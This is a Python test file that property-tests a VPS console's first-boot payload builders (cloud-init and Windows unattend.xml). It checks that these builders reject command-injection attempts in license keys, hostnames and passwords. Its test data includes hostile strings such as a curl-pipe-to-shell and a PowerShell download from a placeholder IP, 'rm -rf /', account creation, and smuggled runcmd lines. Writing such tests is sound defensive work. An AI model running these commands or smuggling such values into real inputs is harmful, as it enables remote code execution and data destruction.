"""The first-boot payload runs as root (cloud-init runcmd) or SYSTEM (sysprep's
FirstLogonCommands): whatever reached the key or hostname, the builders re-check it and
quote for their target. Property-tested with hostile strings: the script always parses,
and the only command in it is the one meant, with the key as one argument."""

from __future__ import annotations

import shlex
import string
import xml.etree.ElementTree as ET

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from console.billing.mapping import valid_hostname
from console.flow import firstboot
from console.flow.firstboot import FirstBootRefused
from console.flow.licenses import PRODUCT_KEY_ALPHABET
from console.flow.plan import Plan, check_hostname

PLESK = "A00Q00-28H603-ABCDEF-GH1234-JKLMN0"
WINDOWS = "VDYBN-27WPP-V4HQT-9VMD4-VMK7H"
MSSQL = "VK7JG-NPHTM-C97JM-9MPGT-3V66T"
UNATTEND = "{urn:schemas-microsoft-com:unattend}"
INJECTIONS = [
    "; curl -s http://203.0.113.9/x | sh",
    "$(reboot)",
    "`id`",
    "& net user x /add",
    "\n  - rm -rf /",
    "' ; reboot ; '",
    '" & calc & "',
    "|| shutdown -h now",
    "\r\nruncmd: [reboot]",
    "%COMSPEC% /c calc",
    "^& calc",
]


def plan(hostname="vps-2001.example.net", kinds=("plesk",), init="cloud-init") -> Plan:
    return Plan(
        order_id="2001",
        vm_name="vps-2001",
        engine="sim",
        template_name="t",
        template_id="tid",
        template_version=1,
        cluster="prod-a",
        cpus=2,
        memory_mib=4096,
        guaranteed_mib=4096,
        disk_gib=80,
        hostname=hostname,
        init_kind=init,
        license_kinds=kinds,
        admin_user="Administrator" if init == "sysprep" else "root",
    )


def linux_commands(script: str) -> tuple[dict, list[list[str]]]:
    assert script.startswith("#cloud-config\n")
    data = yaml.safe_load(script)
    assert isinstance(data, dict) and set(data) <= {"fqdn", "preserve_hostname", "runcmd"}
    return data, [shlex.split(command) for command in data.get("runcmd", [])]


def windows_commands(xml: str) -> tuple[ET.Element, list[str]]:
    root = ET.fromstring(xml.encode("utf-8"))
    lines = [element.text for element in root.iter(f"{UNATTEND}CommandLine")]
    return root, lines


# --------------------------------------------------------------- the attacks, each
@pytest.mark.parametrize("injection", INJECTIONS)
def test_a_key_with_a_command_in_it_never_reaches_the_script(injection):
    for init, kinds, kind in (
        ("cloud-init", ("plesk",), "plesk"),
        ("sysprep", ("windows", "plesk"), "plesk"),
        ("sysprep", ("windows", "mssql"), "mssql"),
    ):
        keys = {"windows": WINDOWS, "plesk": PLESK, "mssql": MSSQL}
        keys[kind] = keys[kind] + injection
        with pytest.raises(FirstBootRefused) as refused:
            firstboot.initialization(plan(kinds=kinds, init=init), keys, "Adm1n-Pass-Word")
        assert f"license.{kind}" in refused.value.message
        assert "credentials set license 2001" in refused.value.hint


@pytest.mark.parametrize(
    "hostname",
    [
        "vps.example.net\nruncmd: [reboot]",
        "vps\n.example.net",
        "vps.example.net\n",
        "a;reboot",
        "vps .example.net",
    ],
)
def test_a_hostname_that_is_not_one_never_reaches_the_payload(hostname):
    for init, kinds in (("cloud-init", ("plesk",)), ("sysprep", ("windows",))):
        with pytest.raises(FirstBootRefused) as refused:
            firstboot.initialization(
                plan(hostname=hostname, kinds=kinds, init=init),
                {"plesk": PLESK, "windows": WINDOWS},
                "Adm1n-Pass-Word",
            )
        assert refused.value.message.startswith("hostname:")


def test_the_payloads_carry_exactly_the_commands_meant():
    data, commands = linux_commands(
        firstboot.cloud_config(plan(kinds=("plesk", "cpanel")), {"plesk": PLESK})
    )
    assert data["fqdn"] == "vps-2001.example.net"
    assert commands[0] == ["plesk", "bin", "license", "--install", PLESK]
    root, lines = windows_commands(
        firstboot.unattend_xml(
            plan(kinds=("windows", "plesk", "mssql"), init="sysprep"),
            {"windows": WINDOWS, "plesk": PLESK, "mssql": MSSQL},
            "P<&>'\"ss-1",
        )
    )
    assert lines[0] == f"cmd /c plesk bin license --install {PLESK}"
    assert f"/PID={MSSQL} " in lines[1]
    assert root.find(f".//{UNATTEND}ProductKey").text == WINDOWS
    assert root.find(f".//{UNATTEND}Value").text == "P<&>'\"ss-1"  # escaped, read back whole


def test_a_password_xml_cannot_carry_is_refused():
    with pytest.raises(FirstBootRefused):
        firstboot.unattend_xml(
            plan(kinds=("windows",), init="sysprep"), {"windows": WINDOWS}, "pass\x00word"
        )


# --------------------------------------------------------------------- properties
hostile_text = st.text(alphabet=st.characters(codec="utf-8"), max_size=60)
key_alphabet = st.sampled_from(list(string.ascii_uppercase + string.digits + "-;|&$`'\"\n <>^%()"))


def keyish(size):
    return st.lists(key_alphabet, min_size=size - 3, max_size=size + 8).map("".join)


SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@SETTINGS
@given(
    key=st.one_of(hostile_text, keyish(34)),
    hostname=st.one_of(hostile_text, st.just("vps-2001.example.net")),
)
@example(key=PLESK + "; reboot", hostname="vps-2001.example.net")
@example(key=PLESK, hostname="vps-2001.example.net\n")
def test_linux_payload_always_parses_and_runs_only_the_license_command(key, hostname):
    try:
        script = firstboot.cloud_config(plan(hostname=hostname, kinds=("plesk",)), {"plesk": key})
    except FirstBootRefused:
        return
    data, commands = linux_commands(script)
    assert valid_hostname(data["fqdn"]) and data["fqdn"] == hostname.rstrip(".").lower()
    assert len(commands) == 1
    argv = commands[0]
    assert argv[:4] == ["plesk", "bin", "license", "--install"] and len(argv) == 5
    assert all(char in string.ascii_uppercase + string.digits + "-" for char in argv[4])


@SETTINGS
@given(
    plesk=st.one_of(hostile_text, keyish(34)),
    mssql=st.one_of(hostile_text, keyish(29)),
    hostname=st.one_of(hostile_text, st.just("win-2001.example.net")),
    password=hostile_text,
)
def test_windows_payload_always_parses_and_runs_only_the_license_commands(
    plesk, mssql, hostname, password
):
    keys = {"windows": WINDOWS, "plesk": plesk, "mssql": mssql}
    try:
        xml = firstboot.unattend_xml(
            plan(hostname=hostname, kinds=("windows", "plesk", "mssql"), init="sysprep"),
            keys,
            password,
        )
    except FirstBootRefused:
        return
    root, lines = windows_commands(xml)
    assert len(lines) == 2
    plesk_line, mssql_line = lines
    assert plesk_line.startswith("cmd /c plesk bin license --install ")
    tail = plesk_line.removeprefix("cmd /c plesk bin license --install ")
    assert tail and all(c in string.ascii_uppercase + string.digits + "-" for c in tail)
    assert mssql_line.endswith(" /IACCEPTSQLSERVERLICENSETERMS")
    pid = mssql_line.split("/PID=")[1].split(" ")[0]
    assert set(pid) <= set(PRODUCT_KEY_ALPHABET + "N-") and len(mssql_line.split()) == 6
    assert root.find(f".//{UNATTEND}Value").text == password


@SETTINGS
@given(name=hostile_text)
@example(name="vps.example.net\n")
@example(name="vps\n.example.net")
def test_a_valid_hostname_is_the_whole_string_and_nothing_else(name):
    if valid_hostname(name):
        assert set(name.lower()) <= set(string.ascii_lowercase + string.digits + ".-")
        assert check_hostname(name.lower()) is None
    else:
        assert check_hostname(name.lower()) is not None or not name


@settings(max_examples=100, deadline=None)
@given(
    label=st.from_regex(r"[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?", fullmatch=True),
    tail=st.sampled_from(["\n", "\r", "\x00", " ", "\x1b", "\u2028", ";", "\t"]),
)
def test_a_hostname_with_anything_after_it_is_refused(label, tail):
    name = f"{label}.example.net{tail}"
    assert valid_hostname(f"{label}.example.net")
    assert not valid_hostname(name)
    assert check_hostname(name) is not None
    assert check_hostname(f"{label}{tail}.example.net") is not None


# ---------------------------------------------------- the runner, right before use
def test_the_runner_rechecks_a_stored_key_before_it_builds_the_payload(
    flow_services, add_order, engine_sim
):
    """A key that reached the secret store by another path (an older console, a hand edit)
    is checked again when the job builds the first-boot payload: the job fails, resumable
    once the key is fixed, and the engine never receives the command."""
    from console.flow.plan import Overrides
    from console.flow.runner import Runner
    from console.secrets import license_secret
    from tests.flow.test_happy_paths import plan_for
    from tests.plugins.flow import FAST, PLESK_CODE, WINDOWS_KEY

    add_order("2002", "VPS Windows Plesk")
    runner = Runner(flow_services, timing=FAST)
    planned = plan_for(flow_services, "2002", Overrides(hostname="win-2002.example.net"))
    job = runner.launch(
        "2002", planned, {"windows": WINDOWS_KEY, "plesk": PLESK_CODE}, confirm_warnings=True
    )
    flow_services.secrets.set(
        license_secret("2002", "plesk"), PLESK_CODE + " & powershell -c iwr http://203.0.113.9/x"
    )
    failed = runner.run(job.id)
    # The payload goes with the create: built (and checked) before the VM exists.
    assert (failed.state, failed.failed_step) == ("failed", "cloning")
    assert (
        failed.error_code == "unsafe_first_boot_value" and "license.plesk" in failed.error_message
    )
    assert not any(m == "POST" and p == "/vms" for m, p, _ in engine_sim.calls)
    flow_services.secrets.set(license_secret("2002", "plesk"), PLESK_CODE)
    done = runner.retry(job.id)
    assert done.state == "done", done.error_message
    assert PLESK_CODE in engine_sim.vm("vps-2002")["initialization"]["custom_script"]
